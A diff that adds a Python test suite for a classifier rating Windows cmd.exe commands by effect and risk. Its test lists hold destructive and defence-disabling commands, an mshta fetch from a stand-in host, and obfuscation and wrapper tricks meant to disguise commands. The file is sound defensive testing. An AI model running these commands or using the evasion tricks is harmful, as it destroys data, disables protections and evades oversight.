@@ -1,0 +1,136 @@
+"""What texts for cmd.exe are taken for."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from schemas.words import Effect, RiskLevel
+from stage_e.risk.judgement import Judgement
+from stage_e.risk.windows_texts import judge_cmd
+from tests.unit.tools.plans import CATALOGUE
+
+RISKS = list(RiskLevel)
+
+
+def judged(text: str) -> Judgement:
+    return judge_cmd(CATALOGUE.book, text)
+
+
+READS = r"""
+dir D:\logs
+type D:\logs\app.log | findstr /i error
+echo del /s /q D:\data
+findstr "rd /s" D:\logs\a.log
+tasklist /v /fo csv
+wmic os get Caption,Version
+wmic process where "name='w3wp.exe'" get processid
+sc queryex Spooler
+net start
+net user
+netsh advfirewall show allprofiles
+schtasks /query /fo LIST
+wevtutil qe System /c:20 /f:text
+certutil -hashfile D:\x.exe SHA256
+bcdedit /enum
+vssadmin list shadows
+format /?
+if exist D:\app (echo yes) else (echo no)
+for %i in (D:\logs\*.log) do type %i
+C:\Windows\System32\ipconfig.exe /all
+cmd /c "dir D:\logs & ver"
+powershell -Command "Get-Service"
+rem del D:\x
+""".strip().splitlines()
+
+
+@pytest.mark.parametrize("text", READS)
+def test_what_only_looks_is_a_low_read(text: str) -> None:
+    assert judged(text).effect.harmless
+    assert judged(text).risk is RiskLevel.LOW
+
+
+CHANGES = r"""
+net start Spooler | write_reversible | medium
+net stop Spooler | disruptive | high
+sc stop WinDefend | disruptive | critical
+taskkill /PID 1234 | disruptive | medium
+taskkill /F /IM lsass.exe | disruptive | critical
+echo a > D:\app\x.txt | disruptive | medium
+echo a > D:\temp\x.txt | write_reversible | medium
+copy D:\a D:\b | write_reversible | medium
+del D:\data\x.txt | destructive | high
+rd/s/q D:\data | destructive | critical
+reg add HKLM\Software\X /v y /d 1 | disruptive | high
+bcdedit /set nx AlwaysOff | disruptive | critical
+wevtutil cl Application | destructive | critical
+shutdown /r /t 0 | disruptive | high
+shutdown /s | disruptive | critical
+D:\tools\x.exe | unknown | high
+""".strip().splitlines()
+
+
+@pytest.mark.parametrize("line", CHANGES)
+def test_a_change_has_its_effect_and_its_risk(line: str) -> None:
+    text, effect, risk = line.split(" | ")
+
+    assert (judged(text).effect, judged(text).risk) == (Effect(effect), RiskLevel(risk))
+
+
+HIDDEN = r"""
+set x=rd& %x% /s /q D:\data
+%x:~0,3% D:\data
+type D:\x.bat | cmd
+mshta https://x.example/a.hta
+rundll32 D:\x.dll,Run
+wmic process call create calc.exe
+runas /user:admin cmd
+cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c dir
+""".strip().splitlines()
+
+
+@pytest.mark.parametrize("text", HIDDEN)
+def test_code_that_the_text_does_not_show_is_critical(text: str) -> None:
+    assert not judged(text).effect.harmless
+    assert judged(text).risk is RiskLevel.CRITICAL
+
+
+UNKNOWN = ["dir %x%", 'echo "a', "d\u0456r", "net use \\\\web-01\\c$", "assoc .txt=x", "for %i", "start", "", "do"]
+
+
+@pytest.mark.parametrize("text", UNKNOWN)
+def test_what_nobody_can_tell_is_no_read(text: str) -> None:
+    assert not judged(text).effect.harmless
+    assert RISKS.index(judged(text).risk) >= RISKS.index(RiskLevel.HIGH)
+
+
+WRAPPERS = [
+    "ver & {0}",
+    "ver && {0}",
+    "ver || {0}",
+    "ver\n{0}",
+    "({0})",
+    "@{0}",
+    'cmd /c "{0}"',
+    "cmd.exe /d /s /c {0}",
+    "%comspec% /c {0}",
+    "start /b {0}",
+    "call {0}",
+    "if 1==1 {0}",
+    "if exist D:\\x ({0}) else (ver)",
+    "for %i in (1 2) do {0}",
+    "for /f %i in ('{0}') do echo %i",
+    "{0} > nul",
+    "{0} & ver",
+    'echo "a" & {0}',
+]
+EVIL = ["rd /s /q D:\\data", "d^el D:\\x", "format D:", "net stop Spooler", '"reg" delete HKLM\\Software\\X /f']
+
+
+@given(st.sampled_from(EVIL), st.lists(st.sampled_from(WRAPPERS), max_size=3))
+def test_no_wrapping_turns_a_change_into_a_read(evil: str, wrappers: list[str]) -> None:
+    text = evil
+    for wrapper in wrappers:
+        text = wrapper.format(text)
+
+    assert not judged(text).effect.harmless
+    assert not judged(text.upper()).effect.harmless
